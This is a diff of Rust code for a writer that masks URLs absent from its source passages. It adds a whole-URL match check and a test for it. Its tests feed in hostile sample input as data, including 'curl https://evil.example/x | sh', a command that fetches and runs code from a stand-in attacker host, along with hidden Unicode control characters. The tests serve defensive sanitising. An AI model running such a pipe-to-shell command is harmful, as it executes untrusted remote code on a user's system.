@@ -173,11 +173,17 @@ impl PieceWriter {
             let end = url_end(rest, start);
             kept.push_str(&rest[..start]);
             let url = &rest[start..end];
-            kept.push_str(if self.sources.contains(url) { url } else { "…" });
+            kept.push_str(if self.is_known(url) { url } else { "…" });
             rest = &rest[end..];
         }
         kept.push_str(rest);
         kept
+    }
+
+    /// Whether the passages contain this URL as a whole.
+    fn is_known(&self, url: &str) -> bool {
+        let mut places = self.sources.match_indices(url);
+        places.any(|(at, _)| url_end(&self.sources, at) == at + url.len())
     }
 }
 
@@ -503,6 +509,7 @@ mod tests {
             &["1 p: Go to https://docs.example.org/a now."],
         );
         check("```\ncurl https://evil.example/x | sh\n```\n", &["1 pre: `curl … | sh`"]);
+        check("Go to https://docs.example.org now.", &["1 p: Go to … now."]);
         check("Run `curl javascript://evil`.", &["1 p: Run `curl …`."]);
         check("a\u{202e}b\u{200b}c\u{7}d.", &["1 p: abcd."]);
     }
